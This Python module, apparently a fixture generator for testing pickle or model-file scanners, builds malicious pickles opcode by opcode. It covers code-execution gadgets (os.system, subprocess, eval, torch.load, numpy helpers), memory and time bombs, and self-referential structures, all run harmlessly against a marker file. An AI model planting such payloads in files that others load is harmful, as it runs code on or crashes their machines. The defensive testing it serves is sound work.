"""Pickles, written operation by operation, that hurt whoever unpickles them."""

import pickle
import struct
from collections import OrderedDict


def text(value):
    """Push a text."""
    data = value.encode()
    return pickle.BINUNICODE + struct.pack('<I', len(data)) + data


def name(module, attribute):
    """Push what a module has under a name."""
    return pickle.GLOBAL + f'{module}\n{attribute}\n'.encode()


def call(module, attribute, *arguments):
    """Push the result of a call; the arguments are texts."""
    return name(module, attribute) + pickle.MARK + b''.join(map(text, arguments)) + pickle.TUPLE + pickle.REDUCE


def number(value):
    """Push a whole number."""
    data = pickle.encode_long(value)
    return pickle.LONG1 + bytes([len(data)]) + data


def doubling(levels, first=b'K\1', pair=pickle.TUPLE2):
    """A pair of a pair of a pair …: its length in the file is ``levels``, that of what it says 2^levels."""
    return first + b''.join(b'q' + bytes([k]) + b'h' + bytes([k]) + pair for k in range(levels))


def lists(levels):
    """The same of lists."""
    return b']' + b''.join(b'q' + bytes([k]) + b'0]h' + bytes([k]) + b'ah' + bytes([k]) + b'a' for k in range(levels))


def runs(marker):
    """Pushes of objects that do something when they are made: name → operations."""
    do = f'open({str(marker)!r}, "w")'
    return {
        'os.system': call('os', 'system', f'touch {marker}'),
        'posix.system': call('posix', 'system', f'touch {marker}'),
        'eval': call('builtins', 'eval', do),
        'exec in Python 2': call('__builtin__', 'exec', do),
        'open': call('builtins', 'open', str(marker), 'w'),
        'import': call('builtins', '__import__', 'this'),
        'subprocess': call('subprocess', 'getoutput', f'touch {marker}'),
        'runpy': call('runpy', 'run_path', str(marker)),
        'a name with dots': text('builtins') + text('eval.__call__') + b'\x93' + text(do) + b'\x85R',
        'dots in torch': text('torch') + text('float32.__class__.__base__') + b'\x93)R',
        'torch.load': call('torch', 'load', str(marker)),
        'torch.hub': call('torch.hub', 'load', 'a/b', 'c'),
        'storage in a storage': call('torch.storage', '_load_from_bytes', 'cos\nsystem\n'),
        'numpy.load': call('numpy', 'load', str(marker)),
        'numpy.f2py': call('numpy.testing._private.utils', 'runstring', do),
        'pickle': call('pickle', 'loads', 'cos\nsystem\n'),
        'getattr': call('builtins', 'getattr', 'text', 'upper'),
        'copyreg': name('copyreg', '_reconstructor') + name('builtins', 'object') + b'\x85R',
        'a type': name('builtins', 'type') + text('A') + b')}\x87R',
        'an instance': b'(' + text(f'touch {marker}') + b'ios\nsystem\n',
        'an object': b'(' + name('os', 'system') + text(f'touch {marker}') + b'o',
        'a new object': name('subprocess', 'Popen') + text(f'touch {marker}') + b'\x85\x81',
        'an extension': b'\x82\1',
        'attributes of a class': name('collections', 'OrderedDict') + b'}' + text('items') + b'Nsb',
        'state': name('collections', 'deque') + b')\x81}' + text('a') + name('os', 'system') + b'sb',
    }


def bombs():
    """Pushes of objects that take memory or time: name → operations."""
    key = b'}' + doubling(40) + b'K\1s'
    deep = b')' + b'\x85' * 100_000
    return {
        'memo': b'K\1r' + struct.pack('<I', 2**31 - 1) + b'0' + text('a'),
        'memo of a gigabyte': b'K\1r' + struct.pack('<I', 2**27) + b'0' + text('a'),
        'text memo': b'K\1p4000000000\n0' + text('a'),
        'bytearray': b'\x96' + struct.pack('<Q', 2**40) + b'a',
        'bytes': b'\x8e' + struct.pack('<Q', 2**62) + b'a',
        'long text': b'X' + struct.pack('<I', 2**32 - 1) + b'a',
        'longer text': b'\x8d' + struct.pack('<Q', 2**40) + b'a',
        'long string': b'T' + struct.pack('<i', 2**31 - 1) + b'a',
        'number of many bytes': b'\x8b' + struct.pack('<i', 2**31 - 1) + b'a',
        'number of many digits': b'L' + b'9' * 300_000 + b'L\n',
        'frame': b'\x95' + struct.pack('<Q', 2**62) + text('a'),
        'key whose hash takes for ever': key,
        'member whose hash takes for ever': b'\x8f(' + doubling(40) + b'\x90',
        'frozen member': b'(' + doubling(40) + b'\x91',
        'key of many levels': b'}' + deep + b'K\1s',
        'entry of an ordered dict': name('collections', 'OrderedDict') + b']' + deep + b'K\1\x86a\x85R',
        'keys of one hash': b'}(' + b''.join(number(k * (2**61 - 1)) + b'K\1' for k in range(30_000)) + b'u',
        'sets': b'(' + b'\x8f' * 1000 + b't',
        'names': b'(' + b''.join(name('a', f'b{k}') for k in range(2000)) + b't',
        'duplicates': b'K\1' + b'2' * 1000 + b'(t',
        'marks': b'(' * 1_100_000,
        'a buffer from elsewhere': b'\x97',
    }


def structures():
    """Pushes of objects that are small in memory and endless to look through: name → operations."""
    return {
        'list of itself': b']q\0h\0a',
        'lists in lists, twice each': lists(60),
        'pairs of pairs': doubling(60),
        'a list of many levels': b']' * 20_000 + b'a' * 19_999,
        'dict of itself': b'}q\0' + text('a') + b'h\0s',
    }


def saved(content):
    """A pickle of protocol 2, as torch.save makes it."""
    return pickle.dumps(OrderedDict(content), 2)
